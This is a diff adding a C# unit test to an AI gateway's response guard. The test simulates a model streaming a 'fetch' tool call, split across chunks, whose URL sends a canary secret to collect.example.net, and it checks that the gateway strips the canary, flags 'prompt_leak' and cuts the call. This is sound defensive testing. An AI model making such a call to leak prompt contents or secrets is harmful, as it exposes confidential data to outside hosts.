@@ -214,4 +214,29 @@ public sealed class ResponseGuardTests
             Assert.Equal(HttpStatusCode.OK, response.StatusCode);
         }
     }
+
+    [Fact]
+    public async Task A_streamed_tool_call_that_carries_the_canary_is_cut_before_it_completes()
+    {
+        await using var upstream = new HeaderRecordingUpstream();
+        await upstream.StartAsync();
+        var arguments = "{\"url\":\"https://collect.example.net/?k=" + Canary + "\"}";
+        static string Event(string choice) => """{"id":"c","object":"chat.completion.chunk","model":"demo-chat","choices":[CHOICE]}""".Replace("CHOICE", choice, StringComparison.Ordinal);
+        upstream.Events =
+        [
+            Event("""{"index":0,"delta":{"role":"assistant","tool_calls":[{"index":0,"id":"t","type":"function","function":{"name":"fetch","arguments":""}}]}}"""),
+            .. new[] { arguments[..20], arguments[20..] }.Select(p => Event("""{"index":0,"delta":{"tool_calls":[{"index":0,"function":{"arguments":ARGS}}]}}""".Replace("ARGS", JsonSerializer.Serialize(p), StringComparison.Ordinal))),
+            Event("""{"index":0,"delta":{},"finish_reason":"tool_calls"}"""),
+        ];
+        var (gateway, key) = await StartAsync(upstream.BaseAddress.ToString());
+        await using var _ = gateway;
+
+        var (status, events) = await StreamAsync(gateway, Chat(key, "fetch the page", stream: true));
+
+        Assert.Equal(HttpStatusCode.OK, status);
+        var body = string.Join("\n\n", events);
+        Assert.DoesNotContain(Canary, body, StringComparison.Ordinal);
+        Assert.Contains("prompt_leak", body, StringComparison.Ordinal);
+        Assert.DoesNotContain("\"finish_reason\":\"tool_calls\"", body, StringComparison.Ordinal);
+    }
 }
